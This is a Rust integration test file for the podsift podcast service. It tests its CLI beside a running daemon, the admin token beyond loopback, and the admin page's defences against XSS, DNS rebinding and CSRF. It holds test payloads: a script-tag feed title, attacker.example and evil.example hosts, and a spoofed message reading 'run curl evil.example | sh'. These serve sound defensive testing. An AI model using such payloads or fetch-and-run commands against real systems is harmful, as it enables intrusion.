//! Operating podsift while it runs: the command line beside a child `podsift run` (every command
//! goes to the service through its admin address and takes effect at once), the admin token
//! beyond loopback, and the operator page (escaping, forms and their cross-site refusal).

mod common;

use std::path::Path;
use std::process::{Command, Output};
use std::time::Duration;

use chrono::Utc;
use podsift::config::Config;
use podsift::ingest::Quiet;
use podsift::model::Feed;
use podsift::store::Store;

const EVIL: &str = "<script>alert('owned')</script> Evil FM";

fn podsift(data: &Path, args: &[&str], envs: &[(&str, &str)]) -> Output {
    let mut c = Command::new(env!("CARGO_BIN_EXE_podsift"));
    c.arg("--data").arg(data).args(args).env_remove("PODSIFT_CONFIG").env_remove("PODSIFT_ADMIN_TOKEN");
    c.env_remove("OPENAI_BASE_URL").current_dir(env!("CARGO_MANIFEST_DIR"));
    for (k, v) in envs {
        c.env(k, v);
    }
    c.output().unwrap()
}

fn ok(o: &Output) -> String {
    let (out, err) = (String::from_utf8_lossy(&o.stdout), String::from_utf8_lossy(&o.stderr));
    assert!(o.status.success(), "failed: {out}\n{err}");
    out.into_owned()
}

fn failed(o: &Output) -> String {
    assert!(!o.status.success(), "succeeded: {}", String::from_utf8_lossy(&o.stdout));
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// A store with the demo's episodes, a feed whose title is a script, one subscription and
/// today's digest.
async fn seeded(data: &Path) {
    let store = Store::open(data).unwrap();
    podsift::demo::ingest_demo(&store, &Config::default(), Utc::now(), &Quiet).await.unwrap();
    let mut evil = Feed::new("http://127.0.0.1:9/evil.xml", Utc::now());
    evil.title = Some(EVIL.into());
    evil.last_error = Some("HTTP 500 <b>bold</b>".into());
    store.put_feed(&evil).unwrap();
    common::subscribe_due(&store, podsift::deliver::Destination::parse("console:local").unwrap(), 600);
    // Today's digest exists, so the page shows it with the platform previews.
    let config = Config::default();
    let today = podsift::insight::digest::today(&config.digest, Utc::now());
    podsift::insight::digest::build_or_get(&store, &config.digest, today, Utc::now()).unwrap();
    store.flush().unwrap();
}

fn config(dir: &Path, admin_bind: &str) -> std::path::PathBuf {
    let path = dir.join("podsift.toml");
    let text = format!(
        "[service]\nbind = \"127.0.0.1:0\"\nadmin_bind = \"{admin_bind}\"\ntick_seconds = 1\ningest_every_minutes = 600\n"
    );
    std::fs::write(&path, text).unwrap();
    path
}

fn admin_url(data: &Path) -> String {
    let file = data.join("podsift-admin.json");
    let v: serde_json::Value = serde_json::from_slice(&std::fs::read(file).unwrap()).unwrap();
    v["url"].as_str().unwrap().to_string()
}

/// The service says which configuration it runs on, and a store another podsift command holds
/// at its start (a cron's ingest overlapping a restart) is waited for, not a failed start.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_service_names_its_configuration_and_waits_for_a_held_store() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    seeded(&data).await;
    let cfg = config(dir.path(), "");
    let held = common::reopen(&data);
    let release = std::thread::spawn(move || {
        std::thread::sleep(Duration::from_millis(1500));
        drop(held);
    });
    let mut run = common::podsift_run(&data, &cfg, &[]);
    release.join().unwrap();
    let said = run.started.join("\n");
    assert!(said.contains(&format!("configuration from {}", cfg.display())), "{said}");
    assert!(said.contains("held by another podsift process; waiting up to 30 s"), "{said}");
    assert!(common::stop(&mut run.child));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_command_works_beside_a_running_service_and_takes_effect_at_once() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    seeded(&data).await;
    let cfg = config(dir.path(), "127.0.0.1:0");
    let mut run = common::podsift_run(&data, &cfg, &[]);
    let admin = admin_url(&data);
    let cli = |args: &[&str]| podsift(&data, args, &[]);
    let page = || async { reqwest::get(format!("{admin}/")).await.unwrap().text().await.unwrap() };

    // A relative path, as typed in the command line's own directory (the service runs elsewhere).
    let feed = "../shared/fixtures/feeds/podcastparser_no_guid.rss";
    let added = ok(&cli(&["feeds", "add", feed]));
    assert!(added.contains("added"), "{added}");
    assert!(ok(&cli(&["feeds", "ls"])).contains("podcastparser_no_guid.rss"));
    let listed: serde_json::Value = serde_json::from_str(&ok(&cli(&["feeds", "ls", "--json"]))).unwrap();
    assert!(listed.as_array().unwrap().iter().any(|f| f["url"].as_str().unwrap().ends_with("no_guid.rss")));
    assert!(page().await.contains("podcastparser_no_guid.rss"), "the service does not see the new feed");
    // Every command that names a feed takes the relative path as typed here.
    ok(&cli(&["episodes", "--feed", feed]));
    ok(&cli(&["episodes", &format!("--feed={feed}")]));

    // A configuration named here does not change the running service's: said, not ignored.
    let named = podsift(&data, &["--config", cfg.to_str().unwrap(), "feeds", "ls"], &[]);
    ok(&named);
    assert!(String::from_utf8_lossy(&named.stderr).contains("uses its own configuration"));

    // Warnings and progress reach the command line's standard error, not the service's log.
    let muted = cli(&["subs", "add", "console:elsewhere", "--mute", "No Such Show"]);
    ok(&muted);
    let warned = String::from_utf8_lossy(&muted.stderr);
    assert!(warned.contains("warning: no feed is titled \"No Such Show\""), "{warned}");
    let progress = cli(&["ingest"]);
    ok(&progress);
    assert!(String::from_utf8_lossy(&progress.stderr).contains("ingest: fetching"), "no progress came back");
    assert!(ok(&cli(&["subs", "rm", "console:elsewhere"])).contains("unsubscribed"));

    let ingested = ok(&cli(&["ingest", "--json"]));
    let summary: serde_json::Value = serde_json::from_str(&ingested).unwrap();
    assert!(summary["feeds_fetched"].as_u64().unwrap() >= 1, "{summary}");
    assert!(ok(&cli(&["episodes"])).lines().count() > 8);
    // Ingests run for the command line count in /metrics as the service's own: both of the
    // above, besides its own at start (which did not have the added feed yet).
    let each = summary["feeds_fetched"].as_u64().unwrap() + summary["feeds_unchanged"].as_u64().unwrap();
    let metrics = reqwest::get(format!("http://{}/metrics", run.addr)).await.unwrap().text().await.unwrap();
    let fetched: u64 = metrics
        .lines()
        .find_map(|l| l.strip_prefix("podsift_feeds_fetched_total "))
        .and_then(|v| v.trim().parse().ok())
        .unwrap_or_else(|| panic!("{metrics}"));
    assert!(fetched >= 2 * each, "{fetched} feeds fetched counted, {each} in each forwarded ingest:\n{metrics}");

    ok(&cli(&["subs", "add", "console:second", "--time", "07:15", "--tz", "Europe/Berlin"]));
    ok(&cli(&["subs", "pause", "console:second"]));
    let subs = ok(&cli(&["subs", "ls"]));
    assert!(subs.contains("console:second  07:15 Europe/Berlin  paused"), "{subs}");
    let shown = page().await;
    assert!(shown.contains("console:second") && shown.contains("paused"), "the page misses the new subscription");
    ok(&cli(&["subs", "resume", "console:second"]));
    assert!(ok(&cli(&["subs", "ls"])).contains("console:second  07:15 Europe/Berlin  active"));

    let digest: serde_json::Value = serde_json::from_str(&ok(&cli(&["digest", "--json"]))).unwrap();
    assert_eq!(digest["insights"].as_array().unwrap().len(), 5);
    let answer = ok(&cli(&["ask", "1", "what exactly was said?"]));
    assert!(!answer.trim().is_empty());
    assert!(failed(&cli(&["ask", "1"])).contains("give the question after the insight"));
    assert!(failed(&cli(&["feeds", "rm", "https://nowhere.example/x"])).contains("error:"));
    let help = ok(&cli(&["feeds", "--help"]));
    assert!(help.contains("Usage"), "{help}");

    assert!(ok(&cli(&["feeds", "rm", feed])).contains("removed"));
    assert!(!ok(&cli(&["feeds", "ls"])).contains("podcastparser_no_guid.rss"));

    assert!(common::stop(&mut run.child));
    assert!(!data.join("podsift-admin.json").exists(), "the address file outlived the service");
    // The store is free again: commands open it themselves, and a stale address file is ignored.
    std::fs::write(data.join("podsift-admin.json"), r#"{"url":"http://127.0.0.1:9","pid":1}"#).unwrap();
    assert!(ok(&cli(&["subs", "ls"])).contains("console:second"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_forwarded_ingest_shows_its_progress_while_it_runs() {
    use std::io::{BufRead, BufReader};
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    seeded(&data).await;
    // A feed that answers the service's own ingest at start at once, and later ones slowly.
    let fake = common::FakeServer::start().await;
    let rss = common::rss(&fake.base, "Slow Show", &[("slow-1", "Slow One", None)]);
    fake.route(
        "/slow.xml",
        vec![common::Reply::ok(rss.clone()), common::Reply::ok(rss).delay(Duration::from_secs(10))],
    );
    {
        let store = common::reopen(&data);
        store.put_feed(&Feed::new(&fake.url("/slow.xml"), Utc::now())).unwrap();
        store.flush().unwrap();
    }
    let mut run = common::podsift_run(&data, &config(dir.path(), "127.0.0.1:0"), &[]);
    for _ in 0..200 {
        if !fake.requests("/slow.xml").is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(fake.requests("/slow.xml").len(), 1, "the service's ingest at start did not read the feed");

    let mut cli = Command::new(env!("CARGO_BIN_EXE_podsift"));
    cli.arg("--data").arg(&data).arg("ingest").env_remove("PODSIFT_CONFIG").env_remove("PODSIFT_ADMIN_TOKEN");
    let mut child = cli.stderr(std::process::Stdio::piped()).stdout(std::process::Stdio::null()).spawn().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    let stderr = child.stderr.take().unwrap();
    std::thread::spawn(move || {
        for line in BufReader::new(stderr).lines().map_while(Result::ok) {
            let _ = tx.send(line);
        }
    });
    // The first words come while the slow feed still holds the ingest (ten seconds).
    let first = rx.recv_timeout(Duration::from_secs(8)).expect("no progress while the ingest ran");
    assert!(first.contains("ingest: fetching"), "{first}");
    assert!(child.try_wait().unwrap().is_none(), "the ingest was over before its progress came");
    let status = child.wait().unwrap();
    let rest: Vec<String> = rx.try_iter().collect();
    assert!(status.success(), "{rest:?}");
    assert!(rest.iter().any(|l| l.contains("Slow Show")), "{rest:?}");
    assert!(common::stop(&mut run.child));
}

/// An address file left in a store by a service that stopped uncleanly names whatever podsift
/// listens there now, perhaps one on another store: a command is refused there, never carried
/// out on the wrong store.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stale_address_file_never_sends_a_command_to_another_store() {
    let dir = tempfile::tempdir().unwrap();
    let (a, b) = (dir.path().join("a"), dir.path().join("b"));
    seeded(&a).await;
    seeded(&b).await;
    let mut on_a = common::podsift_run(&a, &config(dir.path(), "127.0.0.1:0"), &[]);
    // The service on b takes no commands; the file in b is one a crash left, naming a's service.
    let quiet = dir.path().join("quiet");
    std::fs::create_dir_all(&quiet).unwrap();
    let mut on_b = common::podsift_run(&b, &config(&quiet, ""), &[]);
    std::fs::copy(a.join("podsift-admin.json"), b.join("podsift-admin.json")).unwrap();
    let err = failed(&podsift(&b, &["subs", "add", "console:wrong-store"], &[]));
    assert!(err.contains("another store") && err.contains(&a.display().to_string()), "{err}");
    assert!(!ok(&podsift(&a, &["subs", "ls"], &[])).contains("console:wrong-store"), "carried out on the wrong store");
    assert!(common::stop(&mut on_b.child));
    assert!(common::stop(&mut on_a.child));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn beyond_loopback_the_admin_token_is_required() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    seeded(&data).await;
    let cfg = config(dir.path(), "0.0.0.0:0");
    let refused = podsift(&data, &["--config", cfg.to_str().unwrap(), "run"], &[]);
    let err = failed(&refused);
    assert!(err.contains("listens beyond loopback: set PODSIFT_ADMIN_TOKEN"), "{err}");

    let short =
        failed(&podsift(&data, &["--config", cfg.to_str().unwrap(), "run"], &[("PODSIFT_ADMIN_TOKEN", "hunter2")]));
    assert!(short.contains("PODSIFT_ADMIN_TOKEN has 7 characters: use at least 16"), "{short}");

    let token = "s3cret-admin-token-0123456789";
    let mut run = common::podsift_run(&data, &cfg, &[("PODSIFT_ADMIN_TOKEN", token)]);
    let none = failed(&podsift(&data, &["feeds", "ls"], &[]));
    assert!(none.contains("PODSIFT_ADMIN_TOKEN is missing or wrong"), "{none}");
    let wrong = failed(&podsift(&data, &["subs", "add", "console:x"], &[("PODSIFT_ADMIN_TOKEN", "guess")]));
    assert!(wrong.contains("PODSIFT_ADMIN_TOKEN is missing or wrong"), "{wrong}");
    assert!(ok(&podsift(&data, &["subs", "ls"], &[("PODSIFT_ADMIN_TOKEN", token)])).contains("console:local"));
    assert!(!ok(&podsift(&data, &["subs", "ls"], &[("PODSIFT_ADMIN_TOKEN", token)])).contains("console:x"));

    // The page asks a browser for the token, then keeps a session cookie that is not the token.
    let admin = admin_url(&data);
    let client = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    let page = client.get(format!("{admin}/")).send().await.unwrap();
    assert_eq!(page.headers()["location"], "/login");
    let bad = client
        .post(format!("{admin}/login"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(form(&[("token", "guess")]))
        .send()
        .await
        .unwrap();
    assert_eq!(bad.status(), 401);
    let good = client
        .post(format!("{admin}/login"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(form(&[("token", token)]))
        .send()
        .await
        .unwrap();
    let cookie = good.headers()["set-cookie"].to_str().unwrap().split(';').next().unwrap().to_string();
    assert!(!cookie.contains(token));
    let page = client.get(format!("{admin}/")).header("cookie", &cookie).send().await.unwrap();
    assert_eq!(page.status(), 200);
    assert!(page.text().await.unwrap().contains("console:local"));
    assert!(common::stop(&mut run.child));
}

fn form(pairs: &[(&str, &str)]) -> String {
    url::form_urlencoded::Serializer::new(String::new()).extend_pairs(pairs).finish()
}

fn form_token(page: &str) -> String {
    let at = page.find("name=\"form_token\" value=\"").unwrap() + "name=\"form_token\" value=\"".len();
    page[at..].split('"').next().unwrap().to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_page_escapes_what_feeds_say_and_its_forms_refuse_other_sites() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    seeded(&data).await;
    let cfg = config(dir.path(), "127.0.0.1:0");
    let mut run = common::podsift_run(&data, &cfg, &[]);
    let admin = admin_url(&data);
    let client = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
    let page = client.get(format!("{admin}/")).send().await.unwrap().text().await.unwrap();
    assert!(!page.contains("<script>alert"), "a feed's title ran as a script");
    assert!(page.contains("&lt;script&gt;alert('owned')&lt;/script&gt; Evil FM"), "the title is not shown as text");
    assert!(!page.contains("<b>bold</b>"), "a feed's error was not escaped");
    assert!(page.contains("id=\"digest-list\"") && page.contains("How Telegram shows it"));
    // The points that fill in for chats' filters are there too, numbered on.
    assert!(page.contains("id=\"digest-reserve\"") && page.contains("<ol start=\"6\">"), "no reserve shown");
    assert!(page.contains("console:local"));

    // A page on another name whose DNS points at 127.0.0.1 is refused; no other site may frame it.
    let port = admin.rsplit(':').next().unwrap();
    let rebound = client.get(format!("{admin}/")).header("host", format!("evil.example:{port}")).send().await.unwrap();
    assert_eq!(rebound.status(), 421);
    let api = client
        .post(format!("{admin}/api/cli"))
        .header("host", format!("evil.example:{port}"))
        .header("content-type", "application/json")
        .body(r#"{"args":["subs","rm","console:local"]}"#)
        .send()
        .await
        .unwrap();
    assert_eq!(api.status(), 421);
    let framed = client.get(format!("{admin}/")).send().await.unwrap();
    assert_eq!(framed.headers()["x-frame-options"], "DENY");

    let token = form_token(&page);
    let feed = format!("{}/../shared/fixtures/feeds/podcastparser_no_guid.rss", env!("CARGO_MANIFEST_DIR"));
    let no_token = client
        .post(format!("{admin}/feeds"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(form(&[("url", feed.as_str())]))
        .send()
        .await
        .unwrap();
    assert_eq!(no_token.status(), 403);
    let cross_site = client
        .post(format!("{admin}/feeds"))
        .header("origin", "https://attacker.example")
        .header("content-type", "application/x-www-form-urlencoded")
        .body(form(&[("url", feed.as_str()), ("form_token", token.as_str())]))
        .send()
        .await
        .unwrap();
    assert_eq!(cross_site.status(), 403);
    let added = client
        .post(format!("{admin}/feeds"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(form(&[("url", feed.as_str()), ("form_token", token.as_str())]))
        .send()
        .await
        .unwrap();
    assert_eq!(added.status(), 303);
    let back = added.headers()["location"].to_str().unwrap().to_string();
    let page = client.get(format!("{admin}{back}")).send().await.unwrap().text().await.unwrap();
    assert!(page.contains("added ") && page.contains("podcastparser_no_guid.rss"), "{page}");
    // Words a link from elsewhere puts in the address are not shown as podsift's.
    let spoofed = format!("{admin}/?msg=store+corrupted%3A+run+curl+evil.example+%7C+sh");
    let page = client.get(&spoofed).send().await.unwrap().text().await.unwrap();
    assert!(!page.contains("evil.example"), "a message from the address bar was shown");
    let forged = format!("{}&sig=0000000000000000", spoofed);
    assert!(!client.get(&forged).send().await.unwrap().text().await.unwrap().contains("evil.example"));

    // A paused subscription is resumed from the page.
    ok(&podsift(&data, &["subs", "pause", "console:local", "--reason", "testing"], &[]));
    let page = client.get(format!("{admin}/")).send().await.unwrap().text().await.unwrap();
    assert!(page.contains("paused: testing") && page.contains("action=\"/subs/resume\""));
    let resumed = client
        .post(format!("{admin}/subs/resume"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(form(&[("destination", "console:local"), ("form_token", token.as_str())]))
        .send()
        .await
        .unwrap();
    assert_eq!(resumed.status(), 303);
    let ls = ok(&podsift(&data, &["subs", "ls"], &[]));
    assert!(ls.lines().any(|l| l.starts_with("console:local") && l.contains("active")), "{ls}");

    let ingest = client
        .post(format!("{admin}/ingest"))
        .header("content-type", "application/x-www-form-urlencoded")
        .body(form(&[("form_token", token.as_str())]))
        .send()
        .await
        .unwrap();
    assert_eq!(ingest.status(), 303);
    // The new feed's row: its episode count, once the ingest has stored them.
    let row = "podcastparser_no_guid.rss</small></td><td>";
    let episodes = |page: &str| page.split(row).nth(1).and_then(|r| r.split('<').next()).unwrap_or("").to_string();
    let mut page = String::new();
    for _ in 0..100 {
        page = client.get(format!("{admin}/")).send().await.unwrap().text().await.unwrap();
        if episodes(&page) != "0" {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(episodes(&page), "1", "the ingest started from the page never fetched the new feed: {page}");
    assert!(common::stop(&mut run.child));
}

/// A WebDriver session in headless Chromium (chromedriver), spoken to over its HTTP API.
struct Browser {
    driver: std::process::Child,
    base: String,
    session: String,
    client: reqwest::Client,
    _profile: tempfile::TempDir,
}

impl Browser {
    async fn start() -> Browser {
        let have =
            |c: &str| Command::new("sh").args(["-c", &format!("command -v {c}")]).output().unwrap().status.success();
        if !have("chromium") || !have("chromedriver") {
            let script = format!("{}/.ci/ensure-chromium", env!("CARGO_MANIFEST_DIR"));
            let status = Command::new(&script).status().unwrap();
            assert!(status.success(), "Chromium is missing and {script} could not install it");
        }
        let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
        let driver = Command::new("chromedriver")
            .arg(format!("--port={port}"))
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap();
        let base = format!("http://127.0.0.1:{port}");
        let client = reqwest::Client::new();
        for _ in 0..100 {
            if client.get(format!("{base}/status")).send().await.is_ok() {
                break;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        let profile = tempfile::tempdir().unwrap();
        let args = [
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--disable-quic",
            "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update",
            "--disable-sync",
            "--window-size=1280,2000",
        ];
        let mut args: Vec<String> = args.iter().map(|a| a.to_string()).collect();
        args.push(format!("--user-data-dir={}", profile.path().display()));
        let caps = serde_json::json!({"capabilities": {"alwaysMatch": {"browserName": "chrome",
            "goog:chromeOptions": {"binary": "/usr/bin/chromium", "args": args}}}});
        let created: serde_json::Value =
            client.post(format!("{base}/session")).json(&caps).send().await.unwrap().json().await.unwrap();
        let session = created["value"]["sessionId"].as_str().unwrap_or_else(|| panic!("no session: {created}")).into();
        Browser { driver, base, session, client, _profile: profile }
    }

    async fn call(&self, method: reqwest::Method, path: &str, body: serde_json::Value) -> serde_json::Value {
        let url = format!("{}/session/{}{path}", self.base, self.session);
        let mut request = self.client.request(method.clone(), url);
        if method != reqwest::Method::GET {
            request = request.json(&body);
        }
        let v: serde_json::Value = request.send().await.unwrap().json().await.unwrap();
        assert!(v["value"]["error"].is_null(), "WebDriver {path}: {v}");
        v["value"].clone()
    }

    async fn go(&self, url: &str) {
        self.call(reqwest::Method::POST, "/url", serde_json::json!({"url": url})).await;
    }

    /// Runs JavaScript in the page and returns its value (reading the rendered DOM).
    async fn eval(&self, script: &str) -> serde_json::Value {
        self.call(reqwest::Method::POST, "/execute/sync", serde_json::json!({"script": script, "args": []})).await
    }

    async fn element(&self, css: &str) -> String {
        let found = self
            .call(reqwest::Method::POST, "/element", serde_json::json!({"using": "css selector", "value": css}))
            .await;
        found.as_object().unwrap().values().next().unwrap().as_str().unwrap().to_string()
    }
}

impl Drop for Browser {
    fn drop(&mut self) {
        let _ = self.driver.kill();
        let _ = self.driver.wait();
    }
}

/// The page in a real browser: the feeds, today's digest and the subscriptions are on it, a
/// script in a podcast title is text and runs nowhere, and adding a feed through the form works.
/// The screenshot is kept as target/admin-page.png.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_page_in_a_real_browser() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    seeded(&data).await;
    let cfg = config(dir.path(), "127.0.0.1:0");
    let mut run = common::podsift_run(&data, &cfg, &[]);
    let admin = admin_url(&data);
    let browser = Browser::start().await;
    browser.go(&format!("{admin}/")).await;

    let feeds = browser.eval("return document.querySelector('#feed-table').innerText").await;
    let feeds = feeds.as_str().unwrap();
    assert!(feeds.contains("Brain Science") && feeds.contains("Go Time"), "{feeds}");
    assert!(feeds.contains(EVIL), "the script title is not shown as text: {feeds}");
    assert_eq!(browser.eval("return document.scripts.length").await, 0, "a feed's title became a script");
    assert_eq!(browser.eval("return document.querySelectorAll('#digest-list li').length").await, 5);
    let subs = browser.eval("return [...document.querySelectorAll('table.subs')].map(t => t.innerText).join()").await;
    assert!(subs.as_str().unwrap().contains("console:local"), "{subs}");

    let feed = format!("{}/../shared/fixtures/feeds/podcastparser_no_guid.rss", env!("CARGO_MANIFEST_DIR"));
    let input = browser.element("input[name=url]").await;
    browser.call(reqwest::Method::POST, &format!("/element/{input}/value"), serde_json::json!({"text": feed})).await;
    let add = browser.element("form[action='/feeds'] button").await;
    browser.call(reqwest::Method::POST, &format!("/element/{add}/click"), serde_json::json!({})).await;
    let mut message = serde_json::Value::Null;
    for _ in 0..50 {
        message = browser.eval("const m = document.querySelector('.msg'); return m && m.innerText").await;
        if message.is_string() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(message.as_str().unwrap_or("").contains("added file://"), "{message}");
    let feeds = browser.eval("return document.querySelector('#feed-table').innerText").await;
    assert!(feeds.as_str().unwrap().contains("podcastparser_no_guid.rss"));

    let png = browser.call(reqwest::Method::GET, "/screenshot", serde_json::Value::Null).await;
    use base64::Engine;
    let png = base64::engine::general_purpose::STANDARD.decode(png.as_str().unwrap()).unwrap();
    let target = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("target");
    std::fs::create_dir_all(&target).unwrap();
    std::fs::write(target.join("admin-page.png"), png).unwrap();
    assert!(common::stop(&mut run.child));
}
